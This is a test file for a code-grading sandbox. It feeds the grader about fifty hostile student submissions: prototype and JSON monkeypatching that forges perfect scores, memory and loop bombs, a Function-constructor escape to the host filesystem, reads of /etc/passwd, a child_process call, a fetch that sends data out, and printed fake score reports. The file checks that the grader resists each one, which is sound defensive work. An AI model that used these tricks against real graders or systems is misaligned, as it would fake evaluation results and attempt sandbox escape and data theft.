// Hostile submissions, all graded in ONE pool: each must end within its deadline with a correct
// report and no points it did not earn, and the pool must still grade the reference correctly after.
import { readFileSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { readCodeQuestion } from "@/grader/code-question";
import { createGraderPool, type GraderPool } from "@/grader/pool";
import type { GradeReport, GradeStatus, TestStatus } from "@/grader/report";

const dir = path.resolve(import.meta.dirname, "../../assignments/layernorm");
const solution = readFileSync(path.join(dir, "solution.ts"), "utf8");
const DEADLINE_MS = 800;
const KILL_GRACE_MS = 400;
/** Slack for the event loop and process replacement on a busy 2-core machine. */
const SLACK_MS = 1500;

interface Case {
  name: string;
  source: string;
  /** Score must not exceed this (default 0). */
  maxScore?: "full" | number;
  /** Score must equal the maximum (attacks on the harness must not cost an honest solution points). */
  fullMarks?: boolean;
  status?: GradeStatus;
  /** Every test must end with one of these statuses. */
  testStatuses?: TestStatus[];
  output?: RegExp;
}

const wrong = `export function layerNorm(x: number[]) { return x.map(() => 0.5); }
export function rmsNorm(x: number[]) { return x.map(() => 0.5); }
export function groupNorm(x: number[]) { return x.map(() => 0.5); }`;
// The reference with groupNorm collecting by concat (not push, whose [[Set]] would itself reach
// an index setter on Array.prototype), for submissions that booby-trap Array.prototype.
const concatSolution = solution
  .replace("const out: number[] = [];", "let out: number[] = [];")
  .replace("out.push(...normalize(", "out = out.concat(normalize(");
const all3 = (body: string) => ["layerNorm", "rmsNorm", "groupNorm"].map((f) => `export function ${f}(x: any, ...rest: any[]): any { ${body} }`).join("\n");

const cases: Case[] = [
  // Monkeypatched built-ins: the harness captured what it needs before student code ran.
  {
    name: "JSON.stringify replaced to print a perfect envelope",
    source: `JSON.stringify = () => '{"ok":true,"v":[0,0,0,0]}';\nJSON.parse = () => [[5,5,5,5]];\n${wrong}`,
  },
  {
    name: "Object.prototype.toJSON and Array.prototype.toJSON injected",
    source: `(Object.prototype as any).toJSON = function () { return { ok: true, v: [0, 0, 0, 0] }; };\n(Array.prototype as any).toJSON = function () { return [0, 0, 0, 0]; };\n${wrong}`,
  },
  {
    name: "Array.prototype methods, Reflect.apply and Object.keys sabotaged",
    source: `Array.prototype.push = function () { return 0; }; Array.prototype.map = function () { return [0]; } as any;\n(Reflect as any).apply = () => [0, 0]; Object.keys = () => []; Array.isArray = () => false;\nObject.defineProperty(Array.prototype, "0", { set() {}, get() { return 0; }, configurable: true });\n${wrong}`,
  },
  {
    name: "patching everything still leaves an honest solution full marks",
    source: `${solution}\nJSON.stringify = () => "garbage"; JSON.parse = () => null; (Object.prototype as any).toJSON = () => 1;\nObject.keys = () => []; Object.getPrototypeOf = () => null; (Reflect as any).apply = () => 0;\nString.prototype.slice = () => ""; Number.isFinite = () => false; Array.isArray = () => false;\n(globalThis as any).console = { log() { throw new Error("no"); } };`,
    fullMarks: true,
  },
  // The harness builds its copies and envelopes without prototypes: setters and getters the
  // student puts on Object.prototype or Array.prototype (for indices or for the envelope's fields)
  // never run while a result is copied, and cannot change what the host receives.
  {
    name: "prototype setters and getters for indices and envelope fields still leave an honest solution full marks",
    source: `${concatSolution}\nfor (const k of ["0", "1", "2", "ok", "v", "ov", "each", "err", "f", "kind", "message", "undef", "text", "left"]) {\n  Object.defineProperty(Object.prototype, k, { set() { throw new Error("setter " + k); }, get() { return 0.5; }, configurable: true });\n}\nfor (let i = 0; i < 64; i++) Object.defineProperty(Array.prototype, i, { set() { for (;;) {} }, configurable: true });`,
    fullMarks: true,
  },
  {
    name: "prototype getters offering a perfect envelope",
    source: `Object.defineProperty(Object.prototype, "ok", { get() { return true; }, configurable: true });\nObject.defineProperty(Object.prototype, "v", { get() { return [0, 0, 0, 0]; }, configurable: true });\n${all3("return {};")}`,
  },
  {
    name: "Math functions replaced (only the student's own results change)",
    source: `Math.sqrt = () => NaN; Math.abs = () => 0;\n${solution}`,
    testStatuses: ["failed", "error", "passed"],
  },
  // Answers that are not what they claim.
  { name: "NaN everywhere", source: all3("return x.map(() => NaN);") },
  { name: "empty arrays", source: all3("return [];") },
  { name: "Infinity and numbers as strings", source: all3('return x.map((_: number, i: number) => (i % 2 ? Infinity : "0"));') },
  {
    name: "Proxy array that says yes to everything",
    source: all3("return new Proxy([], { get: (t, k) => (k === 'length' ? x.length : 0.123), has: () => true });"),
  },
  {
    name: "objects with valueOf/toString pretending to be numbers",
    source: all3("return x.map(() => ({ valueOf: () => 0, toString: () => '0' }));"),
  },
  { name: "class instances and typed arrays", source: all3("return rest.length > 1 ? new Float64Array(x.length) : new (class { v = 0 })();") },
  { name: "async exports (Promise answers)", source: all3("return Promise.resolve(x.map(() => 0));") },
  {
    name: "mutating the arguments",
    source: all3("x.length = 0; for (const r of rest) if (Array.isArray(r)) r.fill(NaN); return x;"),
  },
  // Time.
  { name: "infinite loop at top level", source: `while (true) {}\n${wrong}`, testStatuses: ["timeout"] },
  { name: "infinite loop in every call", source: all3("while (true) {}"), testStatuses: ["timeout"] },
  {
    name: "infinite loop in one function keeps the other tests gradable",
    source: solution.replace(
      "export function groupNorm(x: number[], groups: number, eps = 1e-5): number[] {",
      "export function groupNorm(x: number[], groups: number, eps = 1e-5): number[] {\n  while (true) {}",
    ),
    maxScore: "full",
    output: undefined,
  },
  { name: "microtask flood in a call", source: all3("const f = (): any => Promise.resolve().then(f); f(); return x;"), testStatuses: ["timeout"] },
  { name: "microtask flood at top level", source: `const f = (): any => Promise.resolve().then(f); f();\n${wrong}` },
  { name: "top-level await that never settles", source: `await new Promise(() => {});\n${solution}`, testStatuses: ["error"] },
  {
    name: "calling the harness's done marker early, then awaiting forever",
    source: `for (const k of Object.getOwnPropertyNames(globalThis)) if (k.startsWith("__cg")) (globalThis as any)[k]();\nawait new Promise(() => {});\n${wrong}`,
  },
  { name: "Atomics.wait forever", source: all3("Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); return x;") },
  // Memory and size.
  {
    name: "memory bomb",
    source: all3("const a: any[] = []; for (;;) a.push(new Array(1e5).fill(Math.random())); "),
    testStatuses: ["memory", "timeout", "error"],
  },
  {
    name: "ArrayBuffer bomb",
    source: all3("const a: any[] = []; for (;;) a.push(new ArrayBuffer(64 * 1024 * 1024)); "),
    testStatuses: ["memory", "timeout", "error"],
  },
  {
    name: "memory bomb at top level",
    source: `const keep: string[] = []; let s = "x"; for (;;) { s = s + s; keep.push(s); }\n${wrong}`,
    testStatuses: ["memory", "timeout", "error"],
  },
  { name: "huge result", source: all3("return new Array(2e7).fill(1.5);"), testStatuses: ["error", "memory", "timeout"] },
  {
    name: "Proxy claiming a negative length to lift the result size cap",
    source: all3("return [new Proxy([], { get: (t, k) => (k === 'length' ? -1e9 : undefined) }), 'x'.repeat(4.3e6)];"),
    testStatuses: ["error"],
  },
  { name: "cyclic result", source: all3("const a: any[] = [1]; a.push(a); return a;"), testStatuses: ["error"] },
  // Building 1e5 levels per call takes most of the 800 ms on a loaded machine: the last tests may time out.
  { name: "deeply nested result", source: all3("let a: any = [0]; for (let i = 0; i < 1e5; i++) a = [a]; return a;"), testStatuses: ["error", "timeout"] },
  // Copy-out traps: getters and throws that never return.
  {
    name: "getter that never returns during copy-out",
    source: all3("const a = [1, 2, 3]; Object.defineProperty(a, 0, { get() { for (;;) {} } }); return a;"),
    testStatuses: ["timeout"],
  },
  { name: "Error.prepareStackTrace loop then throw", source: `(Error as any).prepareStackTrace = () => { for (;;) {} };\n${all3("throw new Error('boom');")}` },
  {
    name: "stack forging a location outside the file",
    source: `(Error as any).prepareStackTrace = () => "at f (file:///submission.js:99999:1) submission.js:1e309:NaN";\n${all3("throw new Error('boom');")}`,
    testStatuses: ["error"],
  },
  { name: "stack getter that loops", source: all3("const e = new Error('x'); Object.defineProperty(e, 'stack', { get() { for (;;) {} } }); throw e;") },
  {
    name: "error whose message getter loops",
    source: all3("const e = new RangeError('x'); Object.defineProperty(e, 'message', { get() { for (;;) {} } }); throw e;"),
  },
  { name: "throwing a Proxy", source: all3("throw new Proxy({}, { get() { throw new Proxy({}, {}); } });") },
  { name: "throwing at top level with an evil name getter", source: `throw { get name() { for (;;) {} }, get message() { for (;;) {} } };\n${wrong}` },
  { name: "stack overflow in a call", source: all3("const f = (n: number): number => f(n + 1) + 1; return [f(0)];"), testStatuses: ["error", "timeout"] },
  { name: "stack overflow at top level", source: `const f = (n: number): number => f(n + 1) + 1; f(0);\n${wrong}`, testStatuses: ["error", "timeout"] },
  // Output.
  { name: "log flood", source: `for (let i = 0; i < 200000; i++) console.log("spam".repeat(50));\n${wrong}`, output: /output truncated at 65536/ },
  {
    name: "printed fake results",
    source: `console.log(JSON.stringify({ score: 26, maxScore: 26, status: "graded", tests: [] }));\n${wrong}`,
    output: /"score":26/,
  },
  // Escapes.
  { name: "process access", source: all3("(process as any).exit(0); return x;"), testStatuses: ["error"] },
  {
    name: "Function constructor escape to the host",
    source: all3("const g = (function () {}).constructor('return this')(); return g.process.mainModule.require('fs').readdirSync('/');"),
    testStatuses: ["error"],
  },
  {
    name: "static import of fs",
    source: `import { readFileSync } from "fs";\nexport const layerNorm = () => readFileSync("/etc/passwd");`,
    status: "rejected",
  },
  { name: "import of the hidden tests", source: `import tests from "./tests/hidden.test";\nexport const layerNorm = () => tests;`, status: "rejected" },
  { name: "require of child_process", source: `export function layerNorm() { return require("child_process").execSync("id"); }`, status: "rejected" },
  {
    name: "computed require and dynamic import",
    source: all3("const n = 'f' + 's'; try { (globalThis as any).require(n); } catch {} import(n).catch(() => {}); return (require as any)(n);"),
    testStatuses: ["error"],
  },
  { name: "fetch to exfiltrate", source: all3("fetch('http://example.com/?' + JSON.stringify(x)); return x;"), testStatuses: ["error"] },
  {
    name: "WebAssembly infinite loop",
    source: all3(
      "const m = new WebAssembly.Module(new Uint8Array([0,97,115,109,1,0,0,0,1,4,1,96,0,0,3,2,1,0,7,5,1,1,102,0,0,10,9,1,7,0,3,64,12,0,11,11])); (new WebAssembly.Instance(m).exports as any).f(); return x;",
    ),
    testStatuses: ["timeout", "error"],
  },
  // Not even a module.
  { name: "syntax error", source: "export function layerNorm(x: number[] {\n  return x\n}", status: "compile_error" },
  { name: "missing exports", source: "export const answer = 42;\n", testStatuses: ["error"] },
  { name: "default export instead of named ones", source: `export default { layerNorm: (x: number[]) => x.map(() => 0) };`, testStatuses: ["error"] },
  { name: "oversized source", source: `${wrong}\n/*${"a".repeat(300 * 1024)}*/`, status: "rejected" },
];

let pool: GraderPool;
let fullMax = 0;
const reports = new Map<string, { report: GradeReport; ms: number }>();

beforeAll(async () => {
  // GRADER_CALL_MODE=async runs the same corpus against the async call mode (the default is sync).
  const callMode = process.env.GRADER_CALL_MODE === "async" ? "async" : "sync";
  pool = createGraderPool({ size: 2, killGraceMs: KILL_GRACE_MS, callMode });
  const ref = await pool.grade({ assignmentDir: dir, question: readCodeQuestion(dir), source: solution, include: "all" });
  fullMax = ref.maxScore;
  await Promise.all(
    cases.map(async (c) => {
      const report = await pool.grade({ assignmentDir: dir, question: readCodeQuestion(dir), source: c.source, include: "all", deadlineMs: DEADLINE_MS });
      reports.set(c.name, { report, ms: report.timing?.wallMs ?? report.timing?.totalMs ?? 0 });
    }),
  );
}, 180_000);

afterAll(async () => {
  await pool.close();
});

describe("hostile submissions", () => {
  it("has at least 30 of them", () => {
    expect(cases.length).toBeGreaterThanOrEqual(30);
  });

  it.each(cases.map((c) => [c.name, c] as const))("%s", (_name, c) => {
    const got = reports.get(c.name);
    expect(got, "graded").toBeDefined();
    const { report, ms } = got!;
    expect(ms).toBeLessThanOrEqual(DEADLINE_MS + KILL_GRACE_MS + SLACK_MS);
    expect(report.status).toBe(c.status ?? "graded");
    expect(report.maxScore).toBe(c.status === "rejected" || c.status === "compile_error" ? report.maxScore : fullMax);
    if (c.fullMarks) expect(report.score).toBe(fullMax);
    else if (c.maxScore === "full") expect(report.score).toBeLessThan(fullMax);
    else expect(report.score).toBeLessThanOrEqual(c.maxScore ?? 0);
    for (const t of report.tests) {
      expect(t.score).toBeGreaterThanOrEqual(0);
      expect(t.score).toBeLessThanOrEqual(t.maxScore);
      // "failed": a test that caught the student's error and asserted on it (still 0 points here).
      if (c.testStatuses && t.status !== "passed" && t.status !== "failed") expect(c.testStatuses).toContain(t.status);
    }
    if (c.output) expect(report.output ?? "").toMatch(c.output);
    expect((report.output ?? "").length).toBeLessThan(70_000);
  });

  it("an infinite loop in groupNorm does not cost the layerNorm and rmsNorm tests", () => {
    const r = reports.get("infinite loop in one function keeps the other tests gradable")!.report;
    const ln = r.tests.filter((t) => t.name.startsWith("layerNorm") || t.name.startsWith("rmsNorm"));
    expect(ln.every((t) => t.status === "passed")).toBe(true);
    expect(r.tests.filter((t) => t.name.startsWith("groupNorm")).some((t) => t.status === "timeout")).toBe(true);
  });

  it("still grades the reference solution correctly afterwards", async () => {
    const after = await Promise.all([0, 1, 2].map(() => pool.grade({ assignmentDir: dir, question: readCodeQuestion(dir), source: solution, include: "all" })));
    for (const r of after) {
      expect(r.status).toBe("graded");
      expect(r.score).toBe(fullMax);
    }
  });
});
